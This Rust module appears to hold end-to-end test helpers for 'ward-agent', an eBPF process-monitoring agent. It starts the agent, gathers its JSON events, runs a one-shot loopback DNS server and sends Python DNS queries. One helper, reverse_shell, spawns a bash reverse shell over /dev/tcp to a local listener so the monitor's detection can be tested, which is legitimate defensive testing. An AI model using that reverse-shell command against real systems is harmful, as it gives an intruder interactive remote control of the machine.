//! Helpers shared by the end-to-end tests: privilege gating, running the real `ward-agent` binary and
//! waiting for the events it prints.

use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError, channel};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use serde_json::Value;

/// True when the tests may load eBPF. Without root they skip with a message, except under CI (`CI=true`),
/// where a test that cannot load eBPF must fail rather than pass silently.
pub fn can_load_ebpf(test: &str) -> bool {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        return true;
    }
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("{test}: eBPF tests need root and CI=true forbids skipping them");
    }
    eprintln!("{test}: skipped: loading eBPF needs root");
    false
}

/// A binary of this workspace, built next to the test executable (`cargo xtask test` builds them all).
pub fn workspace_bin(name: &str) -> PathBuf {
    let exe = std::env::current_exe().expect("test executable path");
    let dir = exe
        .parent()
        .and_then(|deps| deps.parent())
        .expect("target/<profile>/deps");
    let bin = dir.join(name);
    assert!(
        bin.exists(),
        "{} not built: run `cargo xtask test` (or `cargo build --workspace --bins`) first",
        bin.display()
    );
    bin
}

/// A running `ward-agent watch`, its JSON events collected as they are printed.
pub struct Agent {
    child: Child,
    events: Receiver<Value>,
    stderr: Option<JoinHandle<String>>,
    pub pid: u32,
}

impl Agent {
    /// Starts the agent and waits until it is attached and has seeded its process table.
    pub fn start(extra_args: &[&str]) -> Agent {
        let mut child = Command::new(workspace_bin("ward-agent"))
            .arg("watch")
            .args(extra_args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn ward-agent");
        let (tx, events) = channel();
        let stdout = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                // A line cut short can only be the last one of an agent killed mid-write; anything else the
                // tests would notice as missing events.
                let Ok(value) = serde_json::from_str(&line) else {
                    eprintln!("agent printed non-JSON: {line:?}");
                    break;
                };
                if tx.send(value).is_err() {
                    break;
                }
            }
        });
        let (ready_tx, ready_rx) = channel();
        let mut stderr = BufReader::new(child.stderr.take().unwrap());
        let stderr = std::thread::spawn(move || {
            let mut all = String::new();
            let mut line = String::new();
            while stderr.read_line(&mut line).unwrap_or(0) > 0 {
                if line.contains("ward-agent: ready") {
                    let _ = ready_tx.send(());
                }
                all.push_str(&line);
                line.clear();
            }
            all
        });
        let pid = child.id();
        let agent = Agent {
            child,
            events,
            stderr: Some(stderr),
            pid,
        };
        if ready_rx.recv_timeout(Duration::from_secs(20)).is_err() {
            let (status, stderr) = agent.stop();
            panic!("ward-agent did not become ready ({status}); stderr:\n{stderr}");
        }
        agent
    }

    /// The first event (in output order) matching `pred`, waiting up to `timeout`.
    pub fn wait_for(&self, timeout: Duration, pred: impl Fn(&Value) -> bool) -> Option<Value> {
        let deadline = Instant::now() + timeout;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match self.events.recv_timeout(left) {
                Ok(event) if pred(&event) => return Some(event),
                Ok(_) => continue,
                Err(RecvTimeoutError::Timeout | RecvTimeoutError::Disconnected) => return None,
            }
        }
    }

    /// Every event up to and including the first one matching `pred` (None if it never comes).
    pub fn events_until(
        &self,
        timeout: Duration,
        pred: impl Fn(&Value) -> bool,
    ) -> Option<Vec<Value>> {
        let deadline = Instant::now() + timeout;
        let mut seen = Vec::new();
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let event = self.events.recv_timeout(left).ok()?;
            let done = pred(&event);
            seen.push(event);
            if done {
                return Some(seen);
            }
        }
    }

    /// Every event printed within `window` from now.
    pub fn events_for(&self, window: Duration) -> Vec<Value> {
        received_within(&self.events, window)
    }

    /// SIGINT, then the exit status and everything the agent wrote to stderr.
    pub fn stop(mut self) -> (std::process::ExitStatus, String) {
        // SAFETY: signalling our own child by pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
        let status = self.child.wait().expect("wait ward-agent");
        let stderr = self
            .stderr
            .take()
            .map(|h| h.join().unwrap_or_default())
            .unwrap_or_default();
        (status, stderr)
    }
}

impl Drop for Agent {
    /// A test that fails before `stop` must not leave an agent running (it would keep its eBPF programs
    /// attached and its output pipe would have no reader).
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Everything a channel delivers within `window` from now.
pub fn received_within<T>(rx: &Receiver<T>, window: Duration) -> Vec<T> {
    let deadline = Instant::now() + window;
    let mut seen = Vec::new();
    while let Ok(item) = rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
        seen.push(item);
    }
    seen
}

/// Where the cgroup v2 hierarchy is mounted on this host.
pub fn cgroup2_mount() -> PathBuf {
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    mountinfo
        .lines()
        .find_map(|l| {
            let (left, right) = l.split_once(" - ")?;
            right
                .starts_with("cgroup2 ")
                .then(|| PathBuf::from(left.split(' ').nth(4).unwrap()))
        })
        .expect("cgroup2 mounted (the agent mounts it when missing)")
}

/// A unique token for marking the processes of one test.
pub fn marker(test: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("ward-{test}-{}-{nanos}", std::process::id())
}

/// `event.process.args` as strings.
pub fn args(event: &Value) -> Vec<&str> {
    event["process"]["args"]
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

pub fn is_exec_with_arg(event: &Value, arg: &str) -> bool {
    event["type"] == "process_exec" && args(event).contains(&arg)
}

/// A DNS server on 127.0.0.77:53 that answers one query (any name) with an A record of 192.0.2.7.
/// Tests running in parallel take turns for the port: a bind that finds it taken is retried.
pub fn dns_server_once() -> std::thread::JoinHandle<()> {
    let deadline = Instant::now() + Duration::from_secs(30);
    let socket = loop {
        match std::net::UdpSocket::bind("127.0.0.77:53") {
            Err(e) if e.kind() == std::io::ErrorKind::AddrInUse && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(50));
            }
            bound => break bound.expect("bind 127.0.0.77:53 (needs root, port free)"),
        }
    };
    socket
        .set_read_timeout(Some(Duration::from_secs(15)))
        .unwrap();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        if let Ok((n, from)) = socket.recv_from(&mut buf) {
            let mut reply = Vec::new();
            reply.extend_from_slice(&buf[0..2]);
            reply.extend_from_slice(&[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
            reply.extend_from_slice(&buf[12..n]);
            // Answer: pointer to the question name, A, IN, TTL 60, 4 bytes.
            reply.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 7]);
            socket.send_to(&reply, from).unwrap();
        }
    })
}

/// Runs python3 with `code`, which must succeed; returns its pid.
pub fn run_python(code: &str) -> u32 {
    let mut child = Command::new("/usr/bin/python3")
        .args(["-c", code])
        .stdin(Stdio::null())
        .spawn()
        .expect("python3");
    let pid = child.id();
    let status = child.wait().expect("wait for python3");
    assert!(status.success(), "python snippet failed ({status}): {code}");
    pid
}

/// A process that looks `name` up at the test's DNS server on 127.0.0.77 (started for it); returns
/// the process's pid once the answer came.
pub fn dns_lookup(name: &str) -> u32 {
    let server = dns_server_once();
    let pid = run_python(&python_dns_query(name));
    server.join().expect("DNS server thread");
    pid
}

/// A reverse shell: bash with a TCP socket to `listener` (loopback) on stdin, stdout and stderr,
/// running an interactive shell, which the listener's side tells to exit. `mark` ends its command
/// line (as a comment) so that events can be matched to it. Returns the shell's pid.
pub fn reverse_shell(listener: &std::net::TcpListener, mark: &str) -> u32 {
    use std::io::{Read, Write};
    let port = listener.local_addr().expect("listener address").port();
    let mut shell = Command::new("bash")
        .args([
            "-c",
            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {mark}"),
        ])
        .stdin(Stdio::null())
        .spawn()
        .expect("bash");
    let (mut conn, _) = listener.accept().expect("the shell connects");
    conn.write_all(b"exit\n").expect("tell the shell to exit");
    let _ = conn.read_to_end(&mut Vec::new());
    let pid = shell.id();
    shell.wait().expect("wait for the shell");
    pid
}

/// Python that sends one A query for `name` to 127.0.0.77:53 and waits for the answer.
pub fn python_dns_query(name: &str) -> String {
    let labels: Vec<String> = name.split('.').map(|l| format!("b'{l}'")).collect();
    format!(
        "import socket,struct\n\
         q=struct.pack('>HHHHHH',0x4242,0x0100,1,0,0,0)+b''.join(bytes([len(l)])+l for l in [{}])+b'\\x00'+struct.pack('>HH',1,1)\n\
         s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q,('127.0.0.77',53)); s.recv(512)",
        labels.join(",")
    )
}

pub mod api;
pub mod cloud;
